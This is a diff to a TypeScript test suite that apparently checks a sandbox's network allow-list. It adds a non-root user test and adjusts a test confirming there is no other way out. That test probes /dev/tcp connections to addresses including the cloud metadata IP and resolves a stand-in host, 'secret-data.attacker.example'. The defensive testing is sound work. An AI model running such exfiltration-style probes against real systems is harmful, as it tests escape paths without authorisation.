@@ -10,6 +10,8 @@ import type { EgressAttempt } from "../../../../src/egress/attempt.js";
 import { companyProxy } from "../../../support/company-proxy.js";
 import { eventually } from "../../../support/egress-place.js";
 import { testEngine } from "../../../support/engine.js";
+import { becomeHostUser } from "../../../support/host-users.js";
+import { isGvisor } from "../../../support/runtime-differences.js";
 import { openTestSandbox, type TestSandbox } from "../../../support/sandbox.js";
 import { selfSigned } from "../../../support/self-signed.js";
 
@@ -77,6 +79,16 @@ describe("a sandbox with an allow-list", () => {
     });
   });
 
+  it("lets out a user who is not root as well, with a name server and servers on low ports", async () => {
+    becomeHostUser({ uid: 1234, gid: 4321 });
+    await using other = await openTestSandbox({ network: allowed() });
+    const { stdout, stderr } = await other.sandbox.exec(
+      ["bash", "-c", `id -u; curl -sS --noproxy '*' http://host.internal:${ports.plain}/`],
+      { timeoutMs: 60_000 },
+    );
+    expect({ stdout, stderr }).toEqual({ stdout: "1234\nplain GET /\n", stderr: "" });
+  });
+
   it("answers several requests on one connection", async () => {
     attempts.length = 0;
     const twice = `
@@ -107,10 +119,11 @@ for path in ["/1", "/2", "/3"]:
   });
 
   it("has no other way out: no interface, no address, no names", async () => {
+    const unreachable = isGvisor ? "No route to host" : "Network is unreachable";
     const { stdout } = await run(`
-      ls /sys/class/net
+      tail -n +3 /proc/net/dev | grep -o '[a-z0-9]*:'
       for address in 1.1.1.1 169.254.169.254 172.17.0.1 192.0.2.1; do
-        (echo > /dev/tcp/$address/80) 2>&1 | grep -o -m 1 "Network is unreachable"
+        (echo > /dev/tcp/$address/80) 2>&1 | grep -o -m 1 "${unreachable}"
       done
       (echo > /dev/tcp/127.0.0.1/${ports.plain}) 2>&1 | grep -o -m 1 "Connection refused"
       getent ahosts secret-data.attacker.example || echo no such name
@@ -119,8 +132,8 @@ for path in ["/1", "/2", "/3"]:
       cat /etc/resolv.conf | grep nameserver
     `);
     expect(stdout.split("\n")).toEqual([
-      "lo",
-      ...Array(4).fill("Network is unreachable"),
+      "lo:",
+      ...Array(4).fill(unreachable),
       "Connection refused",
       "no such name",
       "127.84.0.1",
